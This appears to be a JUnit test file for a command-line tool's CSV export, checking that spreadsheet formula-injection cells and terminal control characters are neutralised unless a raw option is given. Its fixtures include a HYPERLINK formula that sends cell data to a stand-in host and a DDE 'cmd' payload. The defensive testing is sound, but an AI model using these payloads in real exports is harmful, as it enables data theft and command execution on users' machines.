package org.sstlib.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.sstlib.cli.SstRun.sst;

import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** CSV meant for a spreadsheet: cells that would run as formulas are written as text unless {@code --csv-raw}. */
class CsvOptionsTest {
  private static final String CASE = Path.of("..", "examples", "cases", "hughes-2022.yaml").toString();

  private static String hostile(String name) throws Exception {
    return Path.of(CsvOptionsTest.class.getResource("hostile/" + name).toURI()).toString();
  }

  @Test
  void cellsThatWouldRunAsFormulasGetAQuoteByDefault() throws Exception {
    SstRun run = sst("sparql", CASE, hostile("formula-cells.rq"), "-f", "csv");

    assertEquals(0, run.exitCode(), run.err());
    assertEquals(String.join("\r\n",
        "cell",
        "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"click\"\")\"",
        "'+1+cmd|' /C calc'!A0",
        "'-2+3",
        "\"'@SUM(1,1)\"",
        "'\tTAB",
        "\"'\rCR\"",
        "-3",
        "+4.5",
        "2.5e3",
        "safe = text") + "\r\n", run.out());
  }

  @Test
  void csvRawWritesEveryCellAsItIs() throws Exception {
    SstRun run = sst("sparql", CASE, hostile("formula-cells.rq"), "-f", "csv", "--csv-raw");

    assertEquals(0, run.exitCode(), run.err());
    assertEquals(String.join("\r\n",
        "cell",
        "\"=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"click\"\")\"",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "\"@SUM(1,1)\"",
        "\tTAB",
        "\"\rCR\"",
        "-3",
        "+4.5",
        "2.5e3",
        "safe = text") + "\r\n", run.out());
  }

  @Test
  void tablesAndJsonAreLeftAsTheyAre() throws Exception {
    SstRun json = sst("sparql", CASE, hostile("formula-cells.rq"), "-f", "json");
    assertEquals(0, json.exitCode(), json.err());
    assertTrue(json.out().contains("\"=HYPERLINK("), json.out());
    assertTrue(json.out().contains("\"-2+3\""), json.out());
  }

  @Test
  void theRuleIsOwaspsLeadingCharactersButNotPlainNumbers() {
    for (String formula : List.of("=1", "+A1", "-A1", "@x", "\tx", "\rx", "-", "+", "=", "-1-1", "+1e", "--1")) {
      assertTrue(Tables.runsAsFormula(formula), formula);
    }
    for (String text : List.of("", "1", "-1", "+1", "-1.5", "-.5", "1e-3", "-2E+10", "a=b", " =1", "'=1")) {
      assertTrue(!Tables.runsAsFormula(text), text);
    }
  }

  @Test
  void theDefaultPrintIsProtectedForCommandsWithoutTheOption() {
    java.io.StringWriter text = new java.io.StringWriter();
    Tables.print(List.of("a"), List.of(Map.of("a", "=1+1")), Tables.Format.CSV, new java.io.PrintWriter(text));
    assertEquals("a\r\n'=1+1\r\n", text.toString());
  }

  @Test
  void controlCharactersAreShownEscapedInTablesAndSpreadsheetCsvButKeptByCsvRaw() throws Exception {
    SstRun table = sst("sparql", CASE, hostile("escape-cells.rq"));
    assertEquals(0, table.exitCode(), table.err());
    assertTrue(table.out().contains("before\\u001B[2Jafter"), table.out());
    assertTrue(table.out().contains("bell\\u0007"), table.out());
    assertTrue(table.out().contains("c1\\u009Bcontrol"), table.out());
    assertTrue(table.out().chars().noneMatch(c -> c == 0x1B || c == 0x07 || c == 0x9B), table.out());

    SstRun csv = sst("sparql", CASE, hostile("escape-cells.rq"), "-f", "csv");
    assertEquals("cell\r\nbefore\\u001B[2Jafter\r\nbell\\u0007\r\nc1\\u009Bcontrol\r\n", csv.out());

    SstRun raw = sst("sparql", CASE, hostile("escape-cells.rq"), "-f", "csv", "--csv-raw");
    assertEquals("cell\r\nbefore\u001B[2Jafter\r\nbell\u0007\r\nc1\u009Bcontrol\r\n", raw.out());
  }
}
